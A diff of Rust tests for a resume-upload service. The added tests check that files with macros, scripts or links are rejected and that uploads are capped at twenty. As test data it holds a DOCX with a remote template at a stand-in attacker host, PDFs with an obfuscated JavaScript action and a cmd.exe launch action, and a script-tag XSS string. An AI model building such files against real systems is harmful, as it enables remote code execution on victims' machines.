@@ -238,7 +238,8 @@ async fn a_file_that_is_not_a_resume_is_rejected_and_another_can_be_uploaded() {
     ] {
         api.dynamodb.take_calls();
         let page = attach(&api, &applied, &content).await.expect(422);
-        assert!(!api.dynamodb.take_calls().iter().any(is_write), "{description}");
+        let written: Vec<_> = api.dynamodb.take_calls().into_iter().filter(is_write).collect();
+        assert!(matches!(&written[..], [counted] if counted.operation == "UpdateItem"), "{description}");
         let sentence = "This is not a PDF, DOC, DOCX, ODT or plain text file. Please choose another file.";
         assert!(page.text.contains(sentence) && page.text.contains("aria-invalid=\"true\""), "{description}");
         assert!(
@@ -247,6 +248,21 @@ async fn a_file_that_is_not_a_resume_is_rejected_and_another_can_be_uploaded() {
         );
         assert_eq!(page.header("cache-control"), "no-store");
         assert_eq!(upload(&page).1.len(), 8, "{description}: the form is shown again");
+    }
+    let template =
+        "<r><r Type='x/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/></r>";
+    let parts = [
+        ("[Content_Types].xml", "<x/>"),
+        ("word/document.xml", "<x/>"),
+        ("word/_rels/settings.xml.rels", template),
+    ];
+    for content in [
+        zip(&parts),
+        b"%PDF-1.7\n1 0 obj\n<</OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>\nendobj\n%%EOF".to_vec(),
+        b"%PDF-1.7\n1 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n%%EOF".to_vec(),
+    ] {
+        let page = attach(&api, &applied, &content).await.expect(422);
+        assert!(page.text.contains("contains macros, scripts, embedded files or links"), "{}", page.text);
     }
     // The bucket itself rejects these files and does not redirect.
     let page = browser.follow(&applied).await.expect(200);
@@ -259,6 +275,22 @@ async fn a_file_that_is_not_a_resume_is_rejected_and_another_can_be_uploaded() {
         kinds(&find(&api, "ada@example.com").await),
         ["updated", "applied", "consent_changed", "created"]
     );
+}
+
+#[tokio::test]
+async fn a_ticket_allows_20_files_to_be_checked() {
+    let api = TestApi::new().await;
+    let job = Job::new(&api, "Analyst").await;
+    let applied = job.apply(&api, &form("Ada", "ada@example.com")).await.expect(303);
+    for _ in 0..20 {
+        let page = attach(&api, &applied, b"<html>").await.expect(422);
+        assert!(page.text.contains("This is not a PDF"), "{}", page.text);
+    }
+    let page = attach(&api, &applied, PDF).await.expect(422);
+    assert!(page.text.contains("You have uploaded too many files for this application"), "{}", page.text);
+    assert_eq!(kinds(&find(&api, "ada@example.com").await), ["applied", "consent_changed", "created"]);
+    let another = job.apply(&api, &form("Grace", "grace@example.com")).await.expect(303);
+    attach(&api, &another, PDF).await.expect(303);
 }
 
 #[tokio::test]
@@ -368,10 +400,10 @@ async fn a_file_that_was_not_checked_is_not_attached() {
     let page = browser.follow(&applied).await.expect(200);
     let back = redirect_path(&send(&page, PDF).await.expect(303));
     let (action, fields) = upload(&page);
-    // The item of the upload is read right after the check of the file.
+    // The candidate is read right after the check of the file.
     let dynamodb = api.dynamodb.clone();
     api.dynamodb.inject_faults(move |operation, request| {
-        if operation == "GetItem" && request["Key"]["pk"]["S"].to_string().contains("UPLOAD") {
+        if operation == "GetItem" && request["Key"]["pk"]["S"].to_string().contains("#CANDIDATE#") {
             let (action, fields) = (action.clone(), fields.clone());
             dynamodb.run_before("GetItem", async move {
                 post(&action, &fields, b"<script>alert(1)</script>").await.expect(303);
@@ -436,7 +468,8 @@ async fn an_application_is_accepted_without_a_bucket() {
     browser.follow(&applied).await.expect(200);
     api.dynamodb.take_calls();
     let page = browser.get(&format!("{}&etag=x", applied.header("location"))).await.expect(422);
-    assert!(!api.dynamodb.take_calls().iter().any(is_write));
+    let written: Vec<_> = api.dynamodb.take_calls().into_iter().filter(is_write).collect();
+    assert!(matches!(&written[..], [counted] if counted.operation == "UpdateItem"), "{written:?}");
     let sentence = "Your application has been received; please upload the file again in a minute.";
     assert!(page.text.contains(sentence) && !actions(&page).is_empty(), "{}", page.text);
     assert!(!page.text.contains("127.0.0.1:1/local-resumes/incoming"), "the file's location is not shown");
